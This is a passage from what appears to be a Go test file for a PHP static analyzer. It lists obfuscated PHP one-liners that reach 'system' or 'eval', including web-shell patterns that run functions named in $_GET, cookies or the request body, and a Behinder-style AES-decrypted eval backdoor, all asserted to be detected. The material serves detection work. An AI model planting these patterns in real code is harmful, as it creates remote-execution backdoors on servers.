preg_match('/(?<f>s.*)/', 'xsystem', $m, PREG_OFFSET_CAPTURE); $m['f'][0]('marker');
class Q { private array $q = []; function add(callable $t, ...$a): static { $this->q[] = [new Fiber($t), $a]; return $this; } function run() { while ([$f, $a] = array_shift($this->q)) $f->isStarted() ? $f->resume() : $f->start(...$a); } } (new Q)->add('sle' . 'ep', 0)->add('sys' . 'tem', 'marker')->run();
$f = new Fiber(function ($a) { $b = Fiber::suspend(1); return $a . $b; }); $f->start('sys'); $f->resume('tem'); $f->getReturn()('marker');
$f = new Fiber(function () { foreach (['sys', 'tem'] as $p) Fiber::suspend($p); }); $n = ''; for ($p = $f->start(); !$f->isTerminated(); $p = $f->resume()) $n .= $p; $n('marker');
function emit($p) { Fiber::suspend($p); } $f = new Fiber(function () { emit('sys'); emit('tem'); }); $n = $f->start(); $n .= $f->resume(); $n('marker');
$f = new Fiber(function () { try { Fiber::suspend(); } catch (Exception $e) { ($e->getMessage())('marker'); } }); $f->start(); $f->throw(new Exception('sys' . 'tem'));
function g() { try { yield 1; } catch (Exception $e) { ($e->getMessage())('marker'); } } $g = g(); $g->current(); $g->throw(new Exception('sys' . 'tem'));
$a = []; $v = 'sys'; $a['f'] = &$v; $v .= 'tem'; ($a['f'])('marker');
$v = ''; $a = [&$v]; $v = 'sys' . 'tem'; ($a[0])('marker');
$v = ''; $a = ['f' => &$v]; $a['f'] = 'sys' . 'tem'; $v('marker');
`

// Each of these does so where the request says nothing else.
const unlessTheRequestSaysElse = `
$c = $_COOKIE + [27 => 'str_', 31 => 'rev', 44 => 'x', 60 => 'tem']; (count($c) >= 3 && isset($c[27], $c[31])) ? (($c[27] = 'str' . $c[31]) && ($c[44] = $c[27]('sys')) && ($f = strrev($c[44]) . $c[60]) && $f('marker')) : null;
$c = array_merge(['sys', 'tem'], $_GET); $f = $c[0] . $c[1]; $f('marker');
$c = array_replace(['a' => 'sys' . 'tem'], $_GET); $c['a']('marker');
extract(['a' => 'sys' . 'tem'] + $_GET); $a('marker');
$c = [...['a' => 'sys', 'b' => 'tem'], ...$_GET]; $f = $c['a'] . $c['b']; $f('marker');
$c = $_GET ?: ['f' => 'sys' . 'tem']; $c['f']('marker');
$post = file_get_contents('php://input') ?: 'sys' . 'tem'; $post = strtolower($post); $post('marker');
$f = ($_GET['f'] ?? '') ?: 'sys' . 'tem'; $f('marker');
if (!($f = $_GET['f'] ?? null)) { $f = strrev('metsys'); } $f('marker');
$key = substr(md5('rebeyond'), 0, 16); $post = file_get_contents('php://input') ?: 'rPbEX8XTapLDGysYWK8g8K7DSTm1Md/6SSo5G1dSrzA='; if (!extension_loaded('openssl')) { $post = base64_decode($post . ''); for ($i = 0; $i < strlen($post); $i++) { $post[$i] = $post[$i] ^ $key[$i + 1 & 15]; } } else { $post = openssl_decrypt($post, 'AES-128-ECB', $key); } $arr = explode('|', $post); $params = $arr[1]; eval($params . '');
$key = substr(md5('rebeyond'), 0, 16); $post = file_get_contents('php://input') ?: 'rPbEX8XTapLDGysYWK8g8K7DSTm1Md/6SSo5G1dSrzA='; if (!extension_loaded('openssl')) { $post = base64_decode($post . ''); } else { $post = openssl_decrypt($post, 'AES-128-ECB', $key); } $arr = explode('|', $post); $params = $arr[1]; eval($params . '');
$post = $x ? 'sys|x' : 'tem|system("marker");'; $arr = explode('|', $post); $params = $arr[1]; eval($params . '');
class C { function __invoke($p) { eval($p . ''); } } $key = substr(md5('rebeyond'), 0, 16); $post = file_get_contents('php://input') ?: 'rPbEX8XTapLDGysYWK8g8K7DSTm1Md/6SSo5G1dSrzA='; $post = openssl_decrypt($post, 'AES-128-ECB', $key); $arr = explode('|', $post); $params = $arr[1];  @call_user_func(new C(), $params);
if (!extension_loaded('openssl')) { $post = 'a'; } else { $post = 'x|system("marker");'; } $arr = explode('|', $post); $params = $arr[1]; eval($params . '');
`

func runsPrograms(t *testing.T, code string) bool {
	return slices.ContainsFunc(check(t, "<?php "+code).Uses, func(u script.Use) bool { return commandFunctions[u.Name] })
}

func TestWhatStandardFunctionsMakeIsKnown(t *testing.T) {
	for line := range strings.Lines(throughStandardPHP + unlessTheRequestSaysElse) {
		if line = strings.TrimSpace(line); line != "" && !runsPrograms(t, line) {
			t.Errorf("not found: %s", line)
		}
	}
}
